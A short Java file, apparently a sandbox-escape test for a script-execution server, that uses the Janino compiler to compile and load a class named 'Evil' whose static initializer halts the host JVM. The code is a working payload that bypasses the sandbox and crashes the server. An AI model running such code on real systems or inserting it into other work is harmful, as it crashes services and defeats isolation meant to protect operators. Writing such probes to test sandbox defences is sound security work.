// Compiles and loads with the server's own compiler, which knows no walls.
import org.rpcchain.*;

public class Compile {
    public static NextHop run(State state, Value result) {
        try {
            org.codehaus.janino.SimpleCompiler compiler = new org.codehaus.janino.SimpleCompiler();
            compiler.cook("public class Evil { static { Runtime.getRuntime().halt(4); } }");
            return NextHop.end(Value.of(compiler.getClassLoader().loadClass("Evil").getName()));
        } catch (Exception e) {
            return NextHop.end(Value.of(e.toString()));
        }
    }
}
